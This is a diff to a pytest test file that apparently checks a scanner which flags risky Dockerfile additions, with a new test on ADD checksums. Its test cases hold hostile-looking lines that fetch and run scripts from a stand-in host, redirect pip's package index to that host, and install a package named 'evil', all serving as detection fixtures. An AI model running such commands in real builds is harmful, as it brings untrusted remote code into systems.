@@ -163,6 +163,10 @@ def test_a_broken_manifest_is_not_silence(content: bytes) -> None:
         ("RUN curl https://e.example | bash", "download and run", "dynamic"),
         ("RUN curl -fsSLo /tmp/x https://e.example/i && sh /tmp/x", "download and run", "dynamic"),
         ("RUN curl -O https://e.example/i.sh\nRUN true", "python", ""),
+        ("RUN curl -O https://e.example/i.sh\nRUN sh i.sh", "download and run", "dynamic"),
+        ('ADD ["https://e.example/i", "/i"]', "ADD", "url-source"),
+        ("COPY <<EOF /etc/pip.conf\n[global]\nindex-url=https://e.example\nEOF", "written index-url", "index-changed"),
+        ("RUN python <<EOF\nimport os; os.system('pip install evil')\nEOF", "evil", "added"),
         ("RUN wget https://e.example/i.sh && chmod +x i.sh && ./i.sh --now", "download and run", "dynamic"),
         ('RUN bash -c "$(curl -fsSL https://e.example)"', "download and run", "dynamic"),
         ("RUN easy_install evil", "evil", "added"),
@@ -175,6 +179,13 @@ def test_a_broken_manifest_is_not_silence(content: bytes) -> None:
 def test_instructions_of_a_dockerfile(addition: str, name: str, rule: str) -> None:
     before = "FROM python:3.12\n"
     assert ((name, rule) in said("Dockerfile", before, f"{before}{addition}\n")) is bool(rule)
+
+
+@pytest.mark.parametrize("after", [" --checksum=sha256:bb", ""], ids=["another", "none"])
+def test_the_checksum_of_an_address_is_a_part_of_it(after: str) -> None:
+    add = "FROM a:1\nADD%s https://e.example/i /i\n"
+    found = said("Dockerfile", add % " --checksum=sha256:aa", add % after)
+    assert found == {("ADD", "url-source")}
 
 
 @pytest.mark.parametrize(
